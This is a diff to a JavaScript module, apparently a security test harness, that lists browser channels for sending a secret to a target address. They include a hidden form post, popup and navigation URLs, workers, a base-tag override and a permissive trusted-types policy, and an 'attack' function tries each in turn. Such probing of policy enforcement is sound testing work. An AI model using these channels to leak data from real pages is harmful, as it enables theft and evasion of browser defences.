@@ -62,9 +62,37 @@ export const CHANNELS = {
     connection.createDataChannel(SECRET);
     await connection.setLocalDescription(await connection.createOffer());
   },
+  // What only the page itself can tell of.
+  base: (to) => {
+    make("base", { href: to }, page.head);
+    if (document.baseURI === to) succeeded("base");
+  },
+  "script-text": () => {
+    page.createElement("script").text = "";
+    succeeded("script-text");
+  },
+  "own-rules": () => {
+    trustedTypes.createPolicy("anything-goes", {});
+    succeeded("own-rules");
+  },
+  "worker-of-a-text": async () => {
+    const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"], { type: "text/javascript" })));
+    await new Promise((resolve) => (worker.onmessage = resolve));
+    succeeded("worker-of-a-text");
+  },
+  "worker-of-the-host": (to) => new Worker(to),
+  "form-of-the-page": (to) => {
+    const form = make("form", { action: to, method: "post" });
+    make("input", { name: "secret", value: SECRET }, form);
+    form.submit();
+  },
   popup: (to) => window.open(`${to}?${SECRET}`),
   navigation: (to) => location.assign(`${to}?${SECRET}`),
 };
+
+function succeeded(name) {
+  page.documentElement.dataset.succeeded = `${page.documentElement.dataset.succeeded ?? ""} ${name}`.trim();
+}
 
 /** Tries the channels one after the other; what throws is one that is closed. Says on the page when it is through. */
 export async function attack(addresses, names = Object.keys(addresses)) {
